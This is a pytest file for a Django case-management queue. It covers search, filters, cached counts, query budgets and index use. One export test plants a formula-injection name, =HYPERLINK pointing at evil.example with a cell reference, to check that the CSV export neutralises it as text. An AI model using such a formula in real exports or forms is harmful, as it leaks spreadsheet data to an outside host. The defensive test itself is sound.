"""The queue's filters, search and sort; query counts of the queue and case page."""

import datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from backoffice import services
from backoffice.factories import CaseFactory, FollowUpFactory, NoteFactory, PersonFactory
from backoffice.models import CasePet, Pet
from backoffice.vocabulary import CaseType, Need, Priority, Status

from .conftest import open_case

pytestmark = pytest.mark.django_db


@pytest.fixture
def queue_cases(case_manager, other_case_manager):
    now = timezone.now()
    cases = {
        "mine_urgent": CaseFactory(
            assignee=case_manager,
            priority=Priority.URGENT,
            status=Status.IN_PROGRESS,
            needs=[Need.URGENT_VET],
            person=PersonFactory(
                name="Ada Brightwater", phone="(503) 555-0101", email="ada@example.org"
            ),
        ),
        "theirs_es": CaseFactory(
            assignee=other_case_manager,
            person=PersonFactory(name="Lucía Quintanilla", preferred_language="es"),
            case_type=CaseType.REHOMING,
            needs=[Need.REHOMING],
            opened_at=now - datetime.timedelta(days=40),
        ),
        "unassigned_new": CaseFactory(needs=[Need.FOOD_SUPPLIES], priority=Priority.LOW),
        "resolved": CaseFactory(assignee=case_manager, status=Status.RESOLVED),
    }
    FollowUpFactory(
        case=cases["theirs_es"], due_on=timezone.localdate() - datetime.timedelta(days=2)
    )
    return cases


def _refs(response):
    return [c.reference for c in response.context["cases"]]


@pytest.mark.parametrize(
    "query, expected",
    [
        ("", ["mine_urgent", "theirs_es", "unassigned_new"]),  # open cases, most urgent first
        ("status=all&sort=newest", ["resolved", "unassigned_new", "mine_urgent", "theirs_es"]),
        ("status=resolved", ["resolved"]),
        ("priority=1", ["mine_urgent"]),
        ("case_type=rehoming", ["theirs_es"]),
        ("assignee=mine", ["mine_urgent"]),
        ("assignee=unassigned", ["unassigned_new"]),
        ("language=es", ["theirs_es"]),
        ("need=food_supplies", ["unassigned_new"]),
        ("overdue=on", ["theirs_es"]),
        ("opened_before={old}", ["theirs_es"]),
        ("opened_after={recent}", ["mine_urgent", "unassigned_new"]),
        ("q=brightwater", ["mine_urgent"]),
        ("q=503.555.0101", ["mine_urgent"]),
        ("q=ADA@example.org", ["mine_urgent"]),
        ("sort=oldest", ["theirs_es", "mine_urgent", "unassigned_new"]),
    ],
)
def test_queue_filters(query, expected, queue_cases, case_manager, client):
    today = timezone.localdate()
    query = query.format(
        old=(today - datetime.timedelta(days=30)).isoformat(),
        recent=(today - datetime.timedelta(days=1)).isoformat(),
    )
    client.force_login(case_manager)
    response = client.get(reverse("backoffice:queue") + "?" + query)
    assert response.status_code == 200
    assert _refs(response) == [queue_cases[k].reference for k in expected]


def test_queue_search_by_reference_and_counts_per_status(queue_cases, case_manager, client):
    client.force_login(case_manager)
    reference = queue_cases["theirs_es"].reference
    short = reference.replace("-00000", "-")  # "PS-1999-2" finds "PS-1999-000002"
    response = client.get(reverse("backoffice:queue") + f"?q={short.lower()}")
    assert _refs(response) == [reference]
    counts = {t["value"]: t["count"] for t in response.context["status_tabs"]}
    assert counts["open"] == 1
    response = client.get(reverse("backoffice:queue"))
    counts = {t["value"]: t["count"] for t in response.context["status_tabs"]}
    assert (counts["open"], counts["resolved"], counts["all"]) == (3, 1, 4)
    assert "is-overdue" in response.content.decode()


def test_counts_and_pages_follow_every_change(queue_cases, case_manager, client, settings):
    """The counts are cached between visits; any change to a case shows at once."""
    client.force_login(case_manager)

    def counts():
        response = client.get(reverse("backoffice:queue"))
        tabs = {t["value"]: t["count"] for t in response.context["status_tabs"]}
        return tabs, response.context["page_obj"].paginator.count

    before, listed = counts()
    assert listed == before["open"]
    case = open_case(assignee=case_manager, opened_by=case_manager)
    after, listed = counts()
    assert after["open"] == before["open"] + 1 and listed == after["open"]
    services.case_status_set(case=case, actor=case_manager, status=Status.WAITING, note="")
    assert counts()[0]["waiting"] == after["waiting"] + 1


def _queue_and_case_queries(client, django_assert_max_num_queries, case, limit_queue, limit_case):
    with django_assert_max_num_queries(limit_queue):
        assert client.get(reverse("backoffice:queue") + "?status=all").status_code == 200
    with django_assert_max_num_queries(limit_case):
        assert client.get(reverse("backoffice:case", args=[case.reference])).status_code == 200


def _grow(case, assignee, n):
    for _ in range(n):
        CaseFactory(assignee=assignee, needs=[Need.HOUSING, Need.TRANSPORT], pets=1)
        NoteFactory(case=case, author=assignee)
        FollowUpFactory(case=case, assignee=assignee)
        services.case_refer(case=case, actor=assignee, partner_name="Pantry")


def test_query_counts_are_bounded_and_do_not_grow_with_cases(
    case_manager, client, django_assert_max_num_queries, django_assert_num_queries
):
    case = open_case(assignee=case_manager)
    client.force_login(case_manager)
    _grow(case, case_manager, 2)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as small_queue:
        client.get(reverse("backoffice:queue") + "?status=all")
    with CaptureQueriesContext(connection) as small_case:
        client.get(reverse("backoffice:case", args=[case.reference]))

    _grow(case, case_manager, 30)  # many more cases, notes, follow-ups and referrals
    with django_assert_num_queries(len(small_queue)):
        client.get(reverse("backoffice:queue") + "?status=all")
    # The case page writes one audit line per view, within its fixed budget.
    with django_assert_num_queries(len(small_case)):
        client.get(reverse("backoffice:case", args=[case.reference]))
    # Session, user, permissions, language, counts, page, rows, needs, staff menus, audit...
    # and the case's outbox and opt-outs.
    _queue_and_case_queries(client, django_assert_max_num_queries, case, 12, 19)


def test_queue_export_writes_a_formula_typed_as_a_name_as_text(case_manager, client):
    """A name typed at intake as a formula opens in a spreadsheet as the text typed."""
    import csv
    import io

    open_case(name='=HYPERLINK("https://evil.example/?"&A1,"Click")', assignee=case_manager)
    client.force_login(case_manager)
    response = client.get(reverse("backoffice:queue_export") + "?status=all")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[-1] for row in rows[1:]]
    assert names == ['\'=HYPERLINK("https://evil.example/?"&A1,"Click")']


def test_the_search_finds_a_pets_name_and_a_microchip_however_it_was_typed(case_manager, client):
    from backoffice.models import CasePet, Pet

    case = CaseFactory(person=PersonFactory(name="Rosa Delgado"))
    other = CaseFactory(person=PersonFactory(name="Tom Wilder"))
    pet = Pet.objects.create(
        owner=case.person, species="dog", name="Biscuit", microchip="985 112-003 456 789"
    )
    CasePet.objects.create(case=case, pet=pet)
    # A pet of the same person that this case is not about does not make it match.
    Pet.objects.create(owner=other.person, species="cat", name="Pepper")
    client.force_login(case_manager)
    url = reverse("backoffice:queue") + "?status=all&q="
    assert _refs(client.get(url + "biscuit")) == [case.reference]
    assert _refs(client.get(url + "985112003456789")) == [case.reference]
    assert _refs(client.get(url + "٩٨٥ ١١٢ ٠٠٣ ٤٥٦ ٧٨٩")) == [case.reference]
    assert _refs(client.get(url + "pepper")) == []


def test_the_case_manager_filter_offers_anyone_once(case_manager, client):
    client.force_login(case_manager)
    body = client.get(reverse("backoffice:queue")).content.decode()
    assignee = body.split('name="assignee"')[1].split("</select>")[0]
    assert assignee.count(">Anyone<") == 1


@pytest.mark.parametrize("typed", ["(916) 555-0142", "Delgado", "rosa@example.org", "Biscuit"])
def test_a_search_finds_the_people_and_pets_first_not_each_cases_in_turn(typed, case_manager):
    """With hundreds of thousands of cases, a search by phone, name, email or pet looks up the
    matching people and pets (their own small indexes) and then their cases: the query reads
    them as sets, never the person or pets of every case in the queue one case at a time."""
    from backoffice.filters import CaseFilter
    from backoffice.models import Case, CasePet, Pet

    person = PersonFactory(name="Rosa Delgado", phone="(916) 555-0142", email="rosa@example.org")
    case = CaseFactory(person=person)
    CaseFactory(person=PersonFactory(name="Tom Wilder", phone="(530) 555-0199"))
    CasePet.objects.create(
        case=case, pet=Pet.objects.create(owner=person, species="dog", name="Biscuit")
    )
    found = CaseFilter(
        {"q": typed, "status": "all"}, queryset=Case.objects.all(), user=case_manager
    )
    assert [c.reference for c in found.qs] == [case.reference]
    sql = str(found.qs.query)
    assert "backoffice_person" not in sql.split("WHERE")[0]  # no join to every case's person
    assert "EXISTS" not in sql
    # The cases of every way it may match are one set (a UNION), never "IN (a) OR IN (b)": an OR
    # of sets leaves the database no index to start from, so it tests every case in the queue.
    assert " OR " not in sql


def test_a_common_pet_name_walks_the_queue_in_order_and_finds_the_same_cases(
    case_manager, monkeypatch
):
    """A word many pets are named is looked for case by case in the queue's order (a page of
    matches comes at once) rather than as a set joined and sorted whole; a rarer one as a set.
    The cases found are the same, and a pet of the person's that the case is not about still
    does not count."""
    from backoffice import filters
    from backoffice.filters import CaseFilter
    from backoffice.models import Case, CasePet, Pet

    about = []
    for name in ("Rosa Delgado", "Tom Wilder", "Ana Ruiz"):
        case = CaseFactory(person=PersonFactory(name=name))
        pet = Pet.objects.create(owner=case.person, species="dog", name="Luna")
        if name != "Ana Ruiz":  # Ana's Luna is not what her case is about
            CasePet.objects.create(case=case, pet=pet)
            about.append(case.reference)

    def search():
        found = CaseFilter(
            {"q": "luna", "status": "all", "sort": "oldest"},
            queryset=Case.objects.all(),
            user=case_manager,
        )
        return [c.reference for c in found.qs], str(found.qs.query)

    rare, rare_sql = search()
    monkeypatch.setattr(filters, "COMMON_MATCHES", 3)
    common, common_sql = search()
    assert rare == common == about
    assert " OR " not in rare_sql and "UNION" in rare_sql
    assert " OR " in common_sql and "UNION" not in common_sql


def test_the_first_pages_of_a_common_word_test_the_cases_walked_one_by_one(
    case_manager, client, monkeypatch
):
    """The queue's first page of a word many pets are named looks up the person and pets of each
    case it walks, rather than first reading every case with a pet of that name (20,000 cases for
    "Mochi" at 500,000 cases: most of the search's time, for the 25 cases shown). A deep page
    and the counts, which need many matches, read the sets once. The cases shown are the same,
    and a pet of the person's that the case is not about still does not count."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from backoffice import filters
    from backoffice.views import queue

    about = []
    for i in range(5):
        case = CaseFactory(person=PersonFactory(name=f"Person {i}"))
        pet = Pet.objects.create(owner=case.person, species="dog", name="Luna")
        if i != 2:  # this Luna is not what the case is about
            CasePet.objects.create(case=case, pet=pet)
            about.append(case.reference)
    monkeypatch.setattr(filters, "COMMON_MATCHES", 3)
    monkeypatch.setattr(filters, "FEW_ROWS", 2)
    monkeypatch.setattr(queue, "QUEUE_PAGE_SIZE", 2)
    client.force_login(case_manager)

    def page(number):
        url = reverse("backoffice:queue") + f"?status=all&sort=oldest&q=luna&page={number}"
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
        listed = [q["sql"] for q in queries if '"reference"' in q["sql"] and "LIMIT" in q["sql"]]
        assert len(listed) == 1, listed
        tabs = {t["value"]: t["count"] for t in response.context["status_tabs"]}
        return _refs(response), tabs["all"], listed[0]

    first, count, first_sql = page(1)
    deeper, _count, deeper_sql = page(2)
    past, _count, past_sql = page(9)  # past the end: the last page, as any list shows it
    assert (first, deeper, past, count) == (about[:2], about[2:], about[2:], 4)
    # Each case walked is looked up (its person's id, its pet's), not found in a set read first.
    assert '"backoffice_case"."id" IN (' not in first_sql
    assert first_sql.count("IS NOT NULL") == 3
    assert '"backoffice_case"."id" IN (' in deeper_sql
    assert '"backoffice_case"."id" IN (' in past_sql


@pytest.mark.parametrize(
    "typed, index",
    [("Biscuit", "bo_pet_name_trgm"), ("985112003456789", "bo_pet_microchip_trgm")],
)
def test_a_search_by_pet_starts_from_an_index_of_pets_on_postgresql(typed, index, case_manager):
    """A pet's name or chip is found through an index (migration 0013), not by reading every
    pet row. Checked with whole-table reads (sequential scans, and index scans that filter every
    row) made as costly as the planner allows, so the test fails whenever no index could answer
    the search, whatever the table's size."""
    from django.db import connection, transaction

    from backoffice.filters import CaseFilter
    from backoffice.models import Case, CasePet, Pet

    if connection.vendor != "postgresql":
        pytest.skip("trigram indexes are PostgreSQL's")
    case = CaseFactory()
    pet = Pet.objects.create(
        owner=case.person, species="dog", name="Biscuit", microchip="985112003456789"
    )
    CasePet.objects.create(case=case, pet=pet)
    found = CaseFilter(
        {"q": typed, "status": "all"}, queryset=Case.objects.all(), user=case_manager
    )
    assert [c.reference for c in found.qs] == [case.reference]
    sql, params = found.qs.query.sql_with_params()
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off")
        cursor.execute("SET LOCAL enable_indexscan = off")
        cursor.execute("EXPLAIN " + sql, params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert index in plan, plan
    assert "Seq Scan on backoffice_pet" not in plan, plan


def test_a_pet_added_to_a_case_is_counted_at_once_by_a_search_for_its_name(
    queue_cases, case_manager, client
):
    """The counts of a search by a pet's name are cached; a pet added to a case (no write to the
    case, its person or its needs) is a change they must follow, as the list does."""
    url = reverse("backoffice:queue") + "?status=all&q=Pumpernickel"
    client.force_login(case_manager)

    def found():
        response = client.get(url)
        tabs = {t["value"]: t["count"] for t in response.context["status_tabs"]}
        return tabs["all"], len(response.context["cases"])

    assert found() == (0, 0)
    case = open_case(assignee=case_manager, opened_by=case_manager)
    assert found() == (0, 0)
    services.case_pet_add(
        case=case, actor=case_manager, pet=services.PetDetails(species="dog", name="Pumpernickel")
    )
    assert found() == (1, 1)


def test_whether_a_word_is_common_is_worked_out_once_for_everyone(
    case_manager, other_case_manager, monkeypatch
):
    """Counting the pets named like a search (100-200 ms for a pet name at 500,000 cases) only
    chooses how to look: done once, not again for each search of the word by anyone, until
    people or pets change."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from backoffice import filters
    from backoffice.filters import CaseFilter
    from backoffice.models import Case, CasePet, Pet

    for name in ("Rosa Delgado", "Tom Wilder", "Ana Ruiz"):
        case = CaseFactory(person=PersonFactory(name=name))
        CasePet.objects.create(
            case=case, pet=Pet.objects.create(owner=case.person, species="dog", name="Luna")
        )
    monkeypatch.setattr(filters, "COMMON_MATCHES", 3)

    def searched(user):
        with CaptureQueriesContext(connection) as queries:
            found = CaseFilter(
                {"q": "luna", "status": "all"}, queryset=Case.objects.all(), user=user
            )
            cases = list(found.qs)
        counted = [q["sql"] for q in queries if "LIMIT 3" in q["sql"] and "COUNT(" in q["sql"]]
        return len(cases), len(counted), " OR " in str(found.qs.query)

    assert searched(case_manager) == (3, 2, True)  # people, then pets: common
    assert searched(other_case_manager) == (3, 0, True)
    Pet.objects.filter(name="Luna").first().delete()
    assert searched(case_manager) == (2, 2, False)
